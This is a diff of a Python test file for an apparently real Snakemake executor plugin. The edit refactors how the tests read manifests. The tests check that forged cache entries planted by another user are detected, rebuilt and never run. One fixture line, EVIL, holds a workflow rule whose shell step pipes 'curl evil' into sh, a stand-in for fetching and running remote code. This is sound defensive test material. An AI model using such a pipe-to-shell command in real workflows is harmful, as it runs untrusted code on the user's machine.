@@ -18,11 +18,11 @@ from helpers.users import OrdinaryUser
 
 from snakemake_executor_plugin_frozen.record.layout import Layout
 from snakemake_executor_plugin_frozen.record.verify import verify
-from snakemake_executor_plugin_frozen.snapshot.archive import extract
+from snakemake_executor_plugin_frozen.snapshot.archive import extract, read_manifest
 from snakemake_executor_plugin_frozen.snapshot.archive_write import ArchiveWriter
 from snakemake_executor_plugin_frozen.snapshot.entries import Entry
 from snakemake_executor_plugin_frozen.snapshot.hashing import file_sha256
-from snakemake_executor_plugin_frozen.snapshot.manifest import read_manifest, record_bytes
+from snakemake_executor_plugin_frozen.snapshot.manifest import record_bytes
 
 GOOD = "rule all:\n    shell: 'echo honest'\n"
 EVIL = "rule all:\n    shell: 'curl evil | sh'\n"
@@ -110,7 +110,7 @@ def test_a_forged_store_entry_is_made_again_not_run(
 ) -> None:
     tmp_path = public_tmp
     honest = pack_tree(shared_repo)
-    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest))[forgery]
+    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())[forgery]
     _plant(shared_repo, honest.id, archive, record)
     assert os.stat(honest.archive).st_uid != os.geteuid()
 
@@ -127,7 +127,7 @@ def test_verify_names_an_entry_whose_files_do_not_have_its_id(
 ) -> None:
     tmp_path = public_tmp
     honest = pack_tree(shared_repo)
-    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest))["relisted"]
+    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())["relisted"]
     _plant(shared_repo, honest.id, archive, record)
     report = verify(Layout.of(shared_repo), [])
     problems = [d.problem for d in report.damaged]
@@ -142,7 +142,7 @@ def test_a_cache_written_by_another_user_vouches_for_nothing(
     forged files' stat: the cache is not the packer's own, so the archive is read."""
     tmp_path = public_tmp
     honest = pack_tree(shared_repo)
-    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest))["same list"]
+    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())["same list"]
     _plant(shared_repo, honest.id, archive, record)
     store = _store(shared_repo)
     (check,) = store.glob("statcache-*.archive.json")
@@ -177,7 +177,7 @@ def test_an_entry_the_packer_cannot_replace_is_a_clear_refusal(
     store = _store(repo)
     (archive_path,) = store.glob("*.tar.zst")
     honest_id = archive_path.name.removesuffix(".tar.zst")
-    manifest = read_manifest(store / f"{honest_id}.json")
+    manifest = read_manifest(store / f"{honest_id}.json").as_json()
     archive, record = _forgeries(tmp_path, manifest)["same list"]
     # A shared store: a sticky folder of another owner (as a project folder set up by its
     # administrator). The sticky bit keeps nobody from replacing the owner's entry: it
